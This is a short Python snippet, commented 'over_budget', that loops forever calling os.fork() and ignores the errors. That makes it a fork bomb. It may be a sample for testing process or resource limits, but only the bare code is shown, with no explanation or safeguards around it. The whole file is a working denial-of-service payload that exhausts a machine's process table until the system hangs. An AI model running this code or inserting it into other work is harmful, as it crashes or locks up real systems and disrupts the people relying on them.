# over_budget
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
